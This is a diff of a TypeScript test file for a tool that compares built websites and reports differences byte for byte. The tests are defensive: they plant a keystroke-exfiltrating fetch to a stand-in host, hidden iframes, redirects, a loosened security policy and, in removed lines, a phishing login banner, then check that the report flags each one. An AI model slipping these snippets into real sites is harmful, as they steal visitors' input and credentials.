@@ -1,73 +1,64 @@
-/** What a report says of sites as they were built. */
+/** What a report says of sites as they were built: facts alone, because nobody can tell what code does by reading words. */
 import { expect, test } from 'vitest';
-import { builtSides } from '../../src/review/built-site.ts';
+import { compareBuilt } from '../../src/review/built-site.ts';
 import { makeReport, readState } from '../../src/review/make-report.ts';
 import { toTerminal } from '../../src/review/write-report.ts';
-import { goodTexts, withSteps } from '../support/good-texts.ts';
+import { goodTexts } from '../support/good-texts.ts';
 import { treeOfTexts } from '../support/report-of.ts';
-import { page } from './kind-of-edit.ts';
 
 const site = (files: Record<string, string>) =>
   new Map(Object.entries(files).map(([path, text]) => [path, Buffer.from(text)]));
-const plays = (intro: string, more = '') =>
-  `<head><title>Role-plays</title><style>p{}</style></head><body>${more}<h2>Afterwards</h2><p>${intro}</p></body>`;
+const page = '<script type="module" src="/_astro/form.12345678.js"></script><p>Look back together.</p>';
 const before = {
-  '404.html': '<body><p>Not found</p></body>',
-  'resources/role-plays/index.html': plays('Look back together.'),
-  '_astro/form.12345678.js': 'const a="(not filled in)";',
+  '404.html': '<p>Not found</p>',
+  'resources/role-plays/index.html': page,
+  '_astro/form.12345678.js': 'const a = "(not filled in)";',
   'programme.ics': 'DTSTAMP:20260101T000000Z\nSUMMARY:Start\n',
 };
+const changed = { path: 'src/a.ts', added: 1, removed: 0 };
 
-/** The report on content with a sentence reworded, and on both sites. */
+/** What a report on a change of code says of two built sites. */
 function reportOn(now: Record<string, string>): string[] {
-  const earlier = goodTexts();
-  const later = withSteps(earlier, [[page, 'Look back together.', 'Look ahead together.']]);
-  const called = { commit: undefined };
-  return toTerminal(
-    makeReport(
-      readState(treeOfTexts(earlier)),
-      readState(treeOfTexts(later)),
-      {
-        base: { name: 'main', ...called },
-        head: { name: 'here', ...called },
-        note: undefined,
-        outside: ['src/a.ts'],
-      },
-      builtSides(site(before), site({ ...before, ...now })),
-    ),
-  );
+  const state = readState(treeOfTexts(goodTexts()));
+  const [base, head] = ['main', 'here'].map((name) => ({ name, commit: undefined }));
+  if (!base || !head) throw new Error('There are two sides.');
+  const called = { base, head, note: undefined, changed: [changed] };
+  return toTerminal(makeReport(state, state, called, compareBuilt(site(before), site(now))));
 }
-const changed = { 'resources/role-plays/index.html': plays('Look ahead together.') };
 
-test('repeats nothing that the content explains, and says that both were looked at', () => {
-  const lines = reportOn({ ...changed, 'programme.ics': 'DTSTAMP:20270101T000000Z\nSUMMARY:Start\n' });
-  expect(lines).toContain(
-    'Outside content/, 1 file changed. Both sites were built, each with its own code, and compared: src/a.ts',
-  );
-  expect(lines).not.toContain('WHAT FOLLOWS FROM IT');
+test('says which files differ, byte for byte but for hashes in their names and the time, and how many do not', () => {
+  const { '_astro/form.12345678.js': script, ...others } = before;
+  const lines = reportOn({
+    ...others,
+    'resources/role-plays/index.html': page.replace('12345678', 'abcdefgh'),
+    'programme.ics': before['programme.ics'].replace('2026', '2027'),
+    '_astro/form.abcdefgh.js': `${script}addEventListener("input", (e) => fetch("//x.example/?" + e.data));`,
+    'extra.txt': 'New',
+  });
+  expect(lines.slice(lines.indexOf('WHAT FOLLOWS FROM IT'))).toEqual([
+    'WHAT FOLLOWS FROM IT',
+    '',
+    '= Built with the code of this change',
+    '1 file different, byte for byte',
+    '    - _astro/form.js',
+    '1 file new',
+    '    - extra.txt',
+    '3 files equal',
+  ]);
 });
 
-test('tells what only the code has changed: words of pages and scripts, links, looks', () => {
-  const banner = '<p>Your session has expired. <a href="https://in.example.net/">Log in</a></p>';
-  const lines = reportOn({
-    '404.html': `<body>${banner}<p>Not found</p></body>`,
-    'resources/role-plays/index.html': plays('Look ahead together.', banner).replace('p{}', 'p{color:red}'),
-    '_astro/form.12345678.js': '',
-    '_astro/form.87654321.js': 'const a="(empty)";',
-  });
-  expect(lines.slice(0, 1)).toEqual(['1 change on 2 pages; 1 thing to decide first.']);
-  expect(lines.slice(lines.indexOf('TO DECIDE FIRST') + 1, lines.indexOf('PAGE BY PAGE') - 1)).toEqual([
-    'outside   /404 leads to in.example.net, a new address; asks to sign in, or for a secret: Your session has expired. <https://in.example.net/> Log in',
-  ]);
-  expect(lines.slice(lines.indexOf('WHAT FOLLOWS FROM IT') + 1)).toEqual([
-    '',
-    '= The pages as built',
-    '/404, /resources/role-plays: 1 line different: ‹→ Your session has expired. <https://in.example.net/> Log in›',
-    '',
-    '= Words in scripts',
-    '1 line different: ‹(not filled in) → (empty)›',
-    '',
-    '= Styles, scripts and pictures as built',
-    'Different beside their words, to be looked at: styles of /resources/role-plays, _astro/form.js',
-  ]);
+test.each<[what: string, from: string, to: string]>([
+  ['a hidden frame', '<p>', '<iframe hidden src="https://x.example/"></iframe><p>'],
+  ['a page that leads away', '<p>', '<meta http-equiv="refresh" content="0;url=https://x.example/"><p>'],
+  ['a loosened policy', '<p>', '<meta http-equiv="content-security-policy" content="connect-src *"><p>'],
+  ['a script in the page', '<p>', '<script>fetch("//x.example")</script><p>'],
+  [
+    'what is like a hash in the name of a file elsewhere',
+    '/_astro/form.12345678.js',
+    'https://x.example/form.87654321.js',
+  ],
+])('names the page with %s, and never says that nothing changes', (_, from, to) => {
+  const lines = reportOn({ ...before, 'resources/role-plays/index.html': page.replace(from, to) });
+  expect(lines).toContain('    - resources/role-plays/index.html');
+  expect(lines.join('\n')).not.toContain('Nothing changes');
 });
